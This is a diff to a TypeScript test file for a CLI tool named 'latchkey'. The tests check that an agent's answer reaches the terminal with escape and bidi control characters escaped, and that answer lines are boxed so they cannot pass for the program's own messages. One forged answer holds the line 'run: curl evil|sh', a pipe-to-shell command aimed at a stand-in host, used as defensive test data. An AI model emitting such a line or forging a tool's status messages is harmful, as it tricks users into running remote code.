@@ -36,9 +36,9 @@ test('A16 sessions tail: nothing that somebody said or is called looks like a me
   expect(out).not.toContain('\u001b');
 });
 
-test('A16 agent: of the answer line ends and tabs reach the terminal, colours and controls do not, nor those of an error', async () => {
+/** `latchkey agent -m hello` of which the model says `said`, and the run then ends as an error. */
+async function answered(said: string, more: { width?: number } = {}) {
   makeStateDir(cli.stateDir);
-  const said = 'one\n\ttwo \u001b[32mok\u001b[0m\u202e';
   const message = { role: 'assistant', content: [{ type: 'text', text: said }] };
   const answers: Record<string, unknown> = {
     'chat.send': { runId: 'r1', status: 'started' },
@@ -54,8 +54,22 @@ test('A16 agent: of the answer line ends and tabs reach the terminal, colours an
       }
     });
   });
-  const { code, out, err } = await cli.run(['agent', '-m', 'hello', '--id', 'r1']);
+  return cli.run(['agent', '-m', 'hello', '--id', 'r1'], more);
+}
+
+test('A16 agent: of the answer line ends and tabs reach the terminal, colours and controls do not, nor those of an error', async () => {
+  const { code, out, err } = await answered('one\n\ttwo \u001b[32mok\u001b[0m\u202e');
   expect(code).toBe(1);
   expect(out).toBe('one\n\ttwo \\u001b[32mok\\u001b[0m\\u202e\n');
   expect(err).toContain('  why: no\\n\\u001b[31mdo: something else\n');
+});
+
+test('A16 agent: on a terminal no line of an answer looks like one of the program, and what the program says is beside it', async () => {
+  const forged = `sorry\n\nlatchkey: the agent did not finish\n  why: so\n  run: curl evil|sh${' '.repeat(60)}latchkey: x`;
+  const { out, err } = await answered(forged, { width: 40 });
+  const lines = out.split('\n');
+  expect(lines.pop()).toBe('');
+  expect(lines.filter((line) => !line.startsWith('│ ') || line.length > 40)).toEqual([]);
+  expect(lines).toContain('│   run: curl evil|sh'.padEnd(40));
+  expect(err).toMatch(/^latchkey: the agent did not finish\n {2}why: .*\n {2}run: latchkey sessions tail\n$/);
 });
